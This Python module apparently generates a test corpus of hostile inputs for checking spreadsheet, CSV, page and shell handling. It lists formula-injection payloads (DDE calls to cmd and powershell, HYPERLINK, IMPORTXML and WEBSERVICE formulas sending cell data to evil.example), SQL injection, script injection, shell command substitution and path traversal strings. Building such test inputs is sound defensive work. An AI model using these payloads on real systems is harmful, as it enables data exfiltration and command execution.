"""Texts that a spreadsheet, a CSV reader, a page or a shell might take for more than text. Made, not collected."""

from itertools import product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    '"=',
    " =",
    ";=",
    ';"=',
    "x;@",
    "x\n-",
    "x\r\n+",
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?q="&A1,"click")',
    "SUM(1,2)*cmd|'/C powershell'!A1",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "WEBSERVICE(\"http://evil.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "1,2;3\t4",
    'a"b""c',
    "line\nbreak\r\nand\rmore",
    "2+5+cmd|'/C calc'!A0;\"x\"",
    "@SUM(1)",
)  # fmt: skip
PLAIN = (
    "", " ", "'", "''", "'tis", "O'Brien", '"', '""', ",", ";", "\t", "\r", "\n", "\r\n", "\\", "\\N", "NULL", "null", "NaN", "inf", "true",
    "1e5", "0x10", "00123", "1234567890123456789", "1-2-2026", "2026-01-02", "12:30", "50%", "$5", "(5)", "-5", "+5", ".5", "=",
    "+", "-", "@", "_x0041_", "_x000D_", "\x01\x02", "\x0b\x0c", "\x1b[31m", "\x7f", "\ufeff", "\ufffe", "\u2028", "\u202egnp.exe",
    "\U0001f4a3", "e\u0301", "é", "ß", "日本語", "עברית", "<script>alert(1)</script>", "<b>&amp;</b>", "]]>", "<![CDATA[", "&#x3d;1+1",
    "{{7*7}}", "${7*7}", "%s%n", "'; DROP TABLE attempts; --", "1' OR '1'='1", "`id`", "$(id)", "| id", "../../etc/passwd", "C:\\x\\y",
    "http://evil.example", "mailto:x@y.example", "internal:Sheet1!A1", "external:\\\\host\\x", "javascript:alert(1)", "#REF!", "#N/A",
    "{=1+1}", "x" * 32_000, "=" * 300, "'" * 50 + "=1", ";" * 20 + "=1", '"' * 9, "\r\n" * 5 + "@x",
)  # fmt: skip


def payloads() -> list[str]:
    """400 texts or a few more, no two alike."""
    made = [start + body for start, body in product(STARTS, BODIES)]
    mixed = [f"{plain[:50]}{start}1" for plain, start in product(PLAIN[:12], STARTS)]
    found = list(dict.fromkeys([*made, *PLAIN, *mixed]))
    assert len(found) >= 400
    return found
